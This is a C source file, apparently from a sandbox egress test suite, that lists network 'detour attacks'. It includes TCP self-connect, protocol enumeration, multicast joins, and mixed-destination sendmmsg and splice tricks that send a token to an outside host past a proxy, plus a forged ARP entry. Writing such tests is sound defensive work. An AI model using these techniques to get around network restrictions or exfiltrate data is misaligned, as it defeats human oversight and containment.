// Further ways out and in: oneself, groups of receivers, pipes, many destinations in one call, and what rides in headers.
#include "net.h"
#include <net/if_arp.h>
#include <sys/ioctl.h>
#include <sys/uio.h>

// TCP's simultaneous open: a socket that nobody listens on connects to itself, and two processes share the stream.
static void self_connect_to(int family, const char *loopback) {
    struct sockaddr_storage own = {0};
    socklen_t size = sizeof own;
    int fd = must(socket(family, SOCK_STREAM, 0));
    if (family == AF_INET) *(struct sockaddr_in *)&own = in4(loopback, 0);
    else *(struct sockaddr_in6 *)&own = in6(loopback, 0);
    must(bind(fd, (void *)&own, family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6)));
    must(getsockname(fd, (void *)&own, &size));
    must(connect(fd, (void *)&own, size));
    succeeded("connected to itself");
}

static void self_connect4(const struct world *w) { (void)w; self_connect_to(AF_INET, "127.0.0.1"); }
static void self_connect6(const struct world *w) { (void)w; self_connect_to(AF_INET6, "::1"); }

// Every type with every protocol, but for TCP streams: one that is to be had is enough.
static void every_protocol(int family) {
    // Streams last: the kernel looks for a module for each protocol that it lacks, which takes its time, and datagrams it has.
    for (int n = 1; n <= 10; n++)
        for (int type = n % 10 + 1, protocol = 0; protocol <= 263; protocol++) {
            if (type == SOCK_STREAM && (protocol == 0 || protocol == IPPROTO_TCP)) continue;
            int fd = socket(family, type, protocol);
            if (fd >= 0) succeeded("type %d, protocol %d", type, protocol);
        }
    errno = EACCES;
    refused("socket");
}

static void every_protocol4(const struct world *w) { (void)w; every_protocol(AF_INET); }
static void every_protocol6(const struct world *w) { (void)w; every_protocol(AF_INET6); }

// Whoever joins a group makes the kernel send reports, and hears what is sent to it.
static void multicast_join4(const struct world *w) {
    (void)w;
    int fd = must(socket(AF_INET, SOCK_DGRAM, 0));
    struct ip_mreqn group = {.imr_multiaddr = in4("239.1.2.3", 0).sin_addr, .imr_ifindex = 2};
    must(setsockopt(fd, IPPROTO_IP, 35, &group, sizeof group));
    succeeded("joined");
}

static void multicast_join6(const struct world *w) {
    (void)w;
    int fd = must(socket(AF_INET6, SOCK_DGRAM, 0));
    struct ipv6_mreq group = {.ipv6mr_multiaddr = in6("ff15::1:2:3", 0).sin6_addr, .ipv6mr_interface = 2};
    must(setsockopt(fd, IPPROTO_IPV6, 20, &group, sizeof group));
    succeeded("joined");
}

// The same by a stream's socket, for an address of the pod's own network: reports are the kernel's packets, whatever the socket sends.
static void multicast_join_by_stream(const struct world *w) {
    (void)w;
    int fd = must(socket(AF_INET6, SOCK_STREAM, 0));
    struct ipv6_mreq group = {.ipv6mr_multiaddr = in6("fd00:88::77:4", 0).sin6_addr, .ipv6mr_interface = 2};
    must(setsockopt(fd, IPPROTO_IPV6, 27 /* JOIN_ANYCAST */, &group, sizeof group));
    succeeded("joined");
}

// The first message goes where it may, the second one elsewhere.
static void sendmmsg_mixed(const struct world *w) {
    struct sockaddr_in near = in4("127.0.0.1", 3128), far = in4(w->host4, w->port);
    struct iovec data = {(void *)w->token, strlen(w->token)};
    struct mmsghdr both[2] = {{.msg_hdr = {.msg_name = &near, .msg_namelen = sizeof near, .msg_iov = &data, .msg_iovlen = 1}},
                              {.msg_hdr = {.msg_name = &far, .msg_namelen = sizeof far, .msg_iov = &data, .msg_iovlen = 1}}};
    int fd = must(socket(AF_INET, SOCK_DGRAM, 0));
    if (must(sendmmsg(fd, both, 2, 0)) < 2) refused("sendmmsg");
    succeeded("sent both");
}

// Data that no send carries: by a pipe into the socket.
static void splice_into(const struct world *w, int type) {
    struct sockaddr_in far = in4(w->host4, w->port);
    int fd = must(socket(AF_INET, type, 0)), ends[2];
    must(connect(fd, (void *)&far, sizeof far));
    prepare(pipe(ends));
    struct iovec data = {(void *)w->token, strlen(w->token)};
    must(vmsplice(ends[1], &data, 1, 0));
    must(splice(ends[0], NULL, fd, NULL, data.iov_len, 0));
    succeeded("spliced");
}

static void splice_into_datagram(const struct world *w) { splice_into(w, SOCK_DGRAM); }
static void splice_into_stream(const struct world *w) { splice_into(w, SOCK_STREAM); }

// A client's socket becomes a server: what was approved once must not count.
static void disconnect_and_listen(const struct world *w) {
    struct sockaddr_in proxy = in4("127.0.0.1", 3128);
    struct sockaddr nobody = {.sa_family = AF_UNSPEC};
    (void)w;
    int fd = must(socket(AF_INET, SOCK_STREAM, 0));
    connect(fd, (void *)&proxy, sizeof proxy);
    must(connect(fd, &nobody, sizeof nobody));
    must(listen(fd, 4));
    succeeded("listens");
}

// A hop towards an address that no packet asked for.
static void arp_entry(const struct world *w) {
    struct arpreq entry = {.arp_flags = ATF_COM | ATF_PERM, .arp_dev = "eth0", .arp_ha = {.sa_data = {2, 1, 2, 3, 4, 5}}};
    *(struct sockaddr_in *)&entry.arp_pa = in4(w->host4, 0);
    int fd = must(socket(AF_INET, SOCK_STREAM, 0));
    must(ioctl(fd, SIOCSARP, &entry));
    succeeded("set");
}

#define NAMED(x) {#x, x}
const struct attack detour_attacks[] = {
    NAMED(self_connect4), NAMED(self_connect6), NAMED(every_protocol4), NAMED(every_protocol6), NAMED(multicast_join4),
    NAMED(multicast_join6), NAMED(multicast_join_by_stream), NAMED(sendmmsg_mixed), NAMED(splice_into_datagram),
    NAMED(splice_into_stream), NAMED(disconnect_and_listen), NAMED(arp_entry), {0}};
